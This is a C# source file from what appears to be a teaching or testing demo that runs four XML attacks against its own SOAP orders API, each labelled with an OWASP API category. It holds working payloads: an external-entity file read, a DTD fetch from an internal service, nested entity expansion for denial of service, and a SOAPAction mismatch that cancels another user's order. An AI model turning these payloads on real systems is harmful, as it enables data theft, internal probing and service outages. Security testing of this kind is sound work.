using System.Text;
using OrdersApi.Data;
using static OrdersApi.Development.Person;

namespace AttackDemo.Attacks;

/// <summary>What XML can do that its reader did not ask for: API8:2023, API7:2023, API4:2023; and an operation under another's name, API5:2023.</summary>
public static class XmlAttacks
{
    private const string Secret = "secret-of-the-server-4712";
    private const int Large = 1_000_000;

    public static IEnumerable<Attack> All { get; } =
    [
        new("API8:2023", "read a file of the server by an external entity",
            async target =>
            {
                var file = Path.GetTempFileName();
                await File.WriteAllTextAsync(file, Secret);
                try
                {
                    var answer = await GetOrderAsync(target, $"<!DOCTYPE x [<!ENTITY file SYSTEM \"{new Uri(file)}\">]>", "&file;");
                    return Finding.Of(answer, answer.Says(Secret), "a file of the server", 500);
                }
                finally
                {
                    File.Delete(file);
                }
            },
            Honest),
        new("API7:2023", "have the server fetch a DTD from an internal service",
            async target =>
            {
                await using var service = InternalService.Start("<!ENTITY x \"y\">");
                var answer = await GetOrderAsync(target, $"<!DOCTYPE x SYSTEM \"http://127.0.0.1:{service.Port}/x.dtd\">", "x");
                return Finding.Of(answer, service.Called, "an internal service was called", 500);
            },
            Honest),
        new("API4:2023", "let 800 bytes grow to a megabyte by entities in entities",
            async target =>
            {
                var entities = string.Concat(Enumerable.Range(1, 5).Select(level => $"<!ENTITY e{level} \"{string.Concat(Enumerable.Repeat($"&e{level - 1};", 16))}\">"));
                var answer = await GetOrderAsync(target, $"<!DOCTYPE x [<!ENTITY e0 \"x\">{entities}]>", "&e5;");
                return Finding.Of(answer, answer.Body.Length > Large, "a megabyte for less than a kilobyte", 500);
            },
            Honest),
        new("API5:2023", "name a harmless operation in SOAPAction, and send another one",
            async target =>
            {
                var answer = await SendAsync(target, SoapMessage.GetAction, string.Empty, $"<cancelOrder xmlns=\"{SoapMessage.Namespace}\"><id>{Seed.AlicesOrder}</id></cancelOrder>");
                return Finding.Of(answer, answer.Says(nameof(OrderStatus.Cancelled)), "the order is cancelled", 500);
            },
            Honest)
        { Alone = true },
    ];

    private static Task<Answer> Honest(Target target) => GetOrderAsync(target, string.Empty, "my-reference");

    private static Task<Answer> GetOrderAsync(Target target, string type, string reference) => SendAsync(
        target, SoapMessage.GetAction, type, $"<getOrder xmlns=\"{SoapMessage.Namespace}\"><id>{Seed.AlicesOrder}</id><reference>{reference}</reference></getOrder>");

    private static Task<Answer> SendAsync(Target target, string action, string type, string body) => target.SendAsync(
        HttpMethod.Post, "/soap", Alice, new StringContent($"{type}<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>{body}</s:Body></s:Envelope>", Encoding.UTF8, "text/xml"),
        ("SOAPAction", $"\"{action}\""));
}
